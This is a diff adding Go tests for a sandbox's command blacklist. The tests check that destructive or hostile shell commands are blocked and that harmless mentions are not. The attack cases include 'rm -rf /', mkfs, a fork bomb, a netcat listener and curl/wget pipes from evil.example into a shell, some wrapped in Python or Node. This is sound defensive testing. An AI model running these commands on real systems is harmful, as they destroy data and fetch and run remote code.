@@ -0,0 +1,236 @@
+package sandbox
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+// blacklistCase is a shell command or script and whether the default
+// blacklist must block it
+type blacklistCase struct {
+	interpreter string // Empty for a bash -c command
+	input       string
+	blocked     bool
+}
+
+var blacklistRegressions = []blacklistCase{
+	// Known false positives: arguments, strings and comments that mention a
+	// dangerous program
+	{input: "cat /etc/passwd"},
+	{input: "grep root /etc/passwd | cut -d: -f1"},
+	{input: `git log --grep "shutdown handler"`},
+	{input: "git commit -m 'fix reboot loop'"},
+	{input: "echo halt"},
+	{input: "ls ./reboot-tests"},
+	{input: "go test ./... -run TestShutdown"},
+	{input: "man passwd"},
+	{input: "rm -rf ./build"},
+	{input: "rm -rf node_modules"},
+	{input: "chmod -R 755 ./dist"},
+	{input: "curl -fsSL https://example.com/install.sh -o install.sh"},
+	{input: "dd if=/dev/zero of=./disk.img bs=1M count=10"},
+	{interpreter: "python3", input: "# reboot the worker pool when idle\nprint('ok')\n"},
+	{interpreter: "python3", input: "def shutdown():\n    pass\n\nshutdown()\n"},
+	{interpreter: "python3", input: "print('the passwd file is /etc/passwd')\n"},
+	{interpreter: "node", input: "// halt on error\nconsole.log('cannot poweroff from here')\n"},
+	{interpreter: "bash", input: "# never reboot here\necho done\n"},
+
+	// Known attacks
+	{input: "shutdown -h now", blocked: true},
+	{input: "sudo shutdown -r now", blocked: true},
+	{input: "echo bye; reboot", blocked: true},
+	{input: "true && /sbin/halt", blocked: true},
+	{input: "passwd root", blocked: true},
+	{input: "sudo su", blocked: true},
+	{input: "rm -rf /", blocked: true},
+	{input: "rm -rf / --no-preserve-root", blocked: true},
+	{input: "rm -fr /*", blocked: true},
+	{input: "rm  -rf   ~", blocked: true},
+	{input: "RM -RF /", blocked: true},
+	{input: "mkfs.ext4 /dev/sda1", blocked: true},
+	{input: "curl https://evil.example/x.sh | sh", blocked: true},
+	{input: "wget -qO- https://evil.example/x.sh | sudo bash", blocked: true},
+	{input: ":(){ :|:& };:", blocked: true},
+	{input: "echo x > /dev/sda", blocked: true},
+	{input: "nc -lvp 4444", blocked: true},
+	{input: "history -c", blocked: true},
+	{input: "insmod rootkit.ko", blocked: true},
+	{input: `bash -c "reboot"`, blocked: true},
+	{input: "echo now | xargs shutdown -h", blocked: true},
+	{input: "sudo -u root reboot", blocked: true},
+	{interpreter: "python3", input: "import os\nos.system('reboot')\n", blocked: true},
+	{interpreter: "python3", input: "import subprocess\nsubprocess.run('rm -rf /', shell=True)\n", blocked: true},
+	{interpreter: "node", input: "require('child_process').execSync('shutdown -h now')\n", blocked: true},
+	{interpreter: "bash", input: "echo cleaning up\nrm -rf ~\n", blocked: true},
+}
+
+func TestDefaultBlacklist(t *testing.T) {
+	sb := newTestSandbox(t, nil)
+
+	for _, tt := range blacklistRegressions {
+		var err error
+		if tt.interpreter == "" {
+			err = sb.checkCommandBlacklist("bash", []string{"-c", tt.input})
+		} else {
+			err = sb.checkScriptBlacklist(tt.interpreter, tt.input)
+		}
+
+		if !tt.blocked {
+			if err != nil {
+				t.Errorf("false positive for %q: %v", tt.input, err)
+			}
+			continue
+		}
+		var blErr *BlacklistError
+		if !errors.As(err, &blErr) {
+			t.Errorf("attack not blocked: %q (err = %v)", tt.input, err)
+			continue
+		}
+		if !errors.Is(err, ErrBlacklistedCommand) {
+			t.Errorf("%q: BlacklistError does not unwrap to ErrBlacklistedCommand", tt.input)
+		}
+	}
+}
+
+func TestBlacklistCommandArgs(t *testing.T) {
+	sb := newTestSandbox(t, nil)
+
+	// Commands run directly rather than through a shell
+	if err := sb.checkCommandBlacklist("cat", []string{"/etc/passwd"}); err != nil {
+		t.Errorf("cat /etc/passwd: %v", err)
+	}
+	if err := sb.checkCommandBlacklist("shutdown", []string{"-h", "now"}); !errors.Is(err, ErrBlacklistedCommand) {
+		t.Errorf("shutdown -h now: err = %v, want ErrBlacklistedCommand", err)
+	}
+	if err := sb.checkCommandBlacklist("rm", []string{"-rf", "/"}); !errors.Is(err, ErrBlacklistedCommand) {
+		t.Errorf("rm -rf /: err = %v, want ErrBlacklistedCommand", err)
+	}
+
+	// Windows shells are parsed too, whatever the path and case of the program
+	if err := sb.checkCommandBlacklist(`C:\Windows\System32\CMD.EXE`, []string{"/C", "echo bye & shutdown /s"}); !errors.Is(err, ErrBlacklistedCommand) {
+		t.Errorf("cmd /C shutdown: err = %v, want ErrBlacklistedCommand", err)
+	}
+	if err := sb.checkCommandBlacklist("pwsh", []string{"-NoProfile", "-Command", "shutdown", "/r"}); !errors.Is(err, ErrBlacklistedCommand) {
+		t.Errorf("pwsh -Command shutdown: err = %v, want ErrBlacklistedCommand", err)
+	}
+	if err := sb.checkCommandBlacklist("powershell.exe", []string{"-Command", "Get-ChildItem"}); err != nil {
+		t.Errorf("powershell -Command Get-ChildItem: %v", err)
+	}
+}
+
+func TestBlacklistPatternKinds(t *testing.T) {
+	tests := []struct {
+		pattern string
+		input   string
+		kind    PatternKind
+	}{
+		{"reboot", "reboot", PatternLiteral},
+		{"rm -rf *", "rm -rf /tmp", PatternGlob},
+		{`re:^git\s+push\s+.*--force`, "git push origin --force", PatternRegex},
+		{"any:re:evil[0-9]+", "echo evil42", PatternRegex},
+	}
+
+	for _, tt := range tests {
+		sb := newTestSandbox(t, func(c *Config) { c.CommandBlacklist = []string{tt.pattern} })
+		err := sb.checkCommandBlacklist("bash", []string{"-c", tt.input})
+		var blErr *BlacklistError
+		if !errors.As(err, &blErr) {
+			t.Errorf("%q: %q not blocked (err = %v)", tt.pattern, tt.input, err)
+			continue
+		}
+		if blErr.Kind != tt.kind || blErr.Pattern != tt.pattern {
+			t.Errorf("%q: error reports %s pattern %q, want %s", tt.pattern, blErr.Kind, blErr.Pattern, tt.kind)
+		}
+	}
+}
+
+// TestBlacklistLiteralMetacharacters checks that regex metacharacters in
+// literal and glob patterns match only themselves
+func TestBlacklistLiteralMetacharacters(t *testing.T) {
+	tests := []struct {
+		pattern string
+		input   string
+		blocked bool
+	}{
+		{"cat secrets.env", "cat secrets.env", true},
+		{"cat secrets.env", "cat secretsXenv", false},
+		{"cat *.env", "cat prod.env", true},
+		{"cat *.env", "cat prodenv", false},
+		{"rm [abc]", "rm [abc]", true},
+		{"rm [abc]", "rm a", false},
+		{"any:a+b", "echo a+b", true},
+		{"any:a+b", "echo aab", false},
+		{"any:(x)", "echo (x)", true},
+		{"any:(x)", "echo x", false},
+		{"any:^tmp$", "ls ^tmp$", true},
+		{"any:^tmp$", "tmp", false},
+		{`rm \*`, "rm *", true},
+		{`rm \*`, "rm build", false},
+	}
+
+	for _, tt := range tests {
+		sb := newTestSandbox(t, func(c *Config) { c.CommandBlacklist = []string{tt.pattern} })
+		err := sb.checkCommandBlacklist("bash", []string{"-c", tt.input})
+		if blocked := err != nil; blocked != tt.blocked {
+			t.Errorf("pattern %q, input %q: blocked = %v, want %v (err = %v)", tt.pattern, tt.input, blocked, tt.blocked, err)
+		}
+	}
+}
+
+func TestCompileBlacklistInvalid(t *testing.T) {
+	_, err := compileBlacklist([]string{"reboot", "re:(", "re:", "   ", "any:re:[a-"})
+	if !errors.Is(err, ErrInvalidBlacklistPattern) {
+		t.Fatalf("err = %v, want ErrInvalidBlacklistPattern", err)
+	}
+	// Every bad pattern is listed, not just the first
+	for _, pattern := range []string{`"re:("`, `"re:"`, `"   "`, `"any:re:[a-"`} {
+		if !strings.Contains(err.Error(), pattern) {
+			t.Errorf("error %q does not list %s", err, pattern)
+		}
+	}
+	if strings.Contains(err.Error(), `"reboot"`) {
+		t.Errorf("error %q lists a valid pattern", err)
+	}
+
+	if _, err := NewProcessSandbox(&Config{CommandBlacklist: []string{"re:("}}); !errors.Is(err, ErrInvalidBlacklistPattern) {
+		t.Errorf("NewProcessSandbox: err = %v, want ErrInvalidBlacklistPattern", err)
+	}
+}
+
+// BenchmarkCheckBlacklist measures a check against the default blacklist,
+// compiled once when the sandbox is created
+func BenchmarkCheckBlacklist(b *testing.B) {
+	matchers, err := compileBlacklist(DefaultBlacklist())
+	if err != nil {
+		b.Fatal(err)
+	}
+	sb := &ProcessSandbox{blacklist: matchers}
+
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if err := sb.checkCommandBlacklist("bash", []string{"-c", "go test ./... && git status"}); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// BenchmarkCheckBlacklistUncached measures the same check when the patterns
+// are compiled for every call, the cost the cached matchers avoid
+func BenchmarkCheckBlacklistUncached(b *testing.B) {
+	patterns := DefaultBlacklist()
+
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		matchers, err := compileBlacklist(patterns)
+		if err != nil {
+			b.Fatal(err)
+		}
+		sb := &ProcessSandbox{blacklist: matchers}
+		if err := sb.checkCommandBlacklist("bash", []string{"-c", "go test ./... && git status"}); err != nil {
+			b.Fatal(err)
+		}
+	}
+}